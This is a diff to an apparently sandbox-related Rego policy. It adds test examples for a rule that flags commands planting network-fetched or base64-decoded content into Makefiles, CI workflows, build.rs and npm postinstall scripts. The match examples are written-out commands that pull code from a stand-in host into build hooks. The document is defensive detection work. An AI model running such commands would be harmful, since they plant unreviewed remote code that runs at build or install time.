@@ -19,12 +19,18 @@ package sandboxd.policies.developer.plants
 #     - echo YWxsOgo= | base64 -d | tee Makefile
 #     - echo "$(curl -s https://x.example/a)" > .github/workflows/ci.yml
 #     - curl -s https://x.example/b.rs > >(tee build.rs)
+#     - x=$(curl -s https://x.example/a); echo "$x" > Makefile
+#     - curl -s https://x.example/a -o x && mv x Makefile
+#     - curl -s https://x.example/a -o x && sed s/a/b/ x > Makefile
+#     - npm pkg set scripts.postinstall="$(curl -s https://x.example/a)"
 #   not_match:
 #     - 'printf ''all:\n\tgo build\n'' > Makefile'
 #     - sed -i 's/a/b/' Makefile
 #     - cp template/package.json package.json
 #     - curl -o data.json https://x.example/data.json
 #     - base64 -d x.b64 > out.bin
+#     - v=$(curl -s https://x.example/version); echo "$v" > VERSION; echo all > Makefile
+#     - npm pkg set scripts.test=jest
 findings contains {
 	"id": "developer.plants.unread",
 	"effect": "ask",
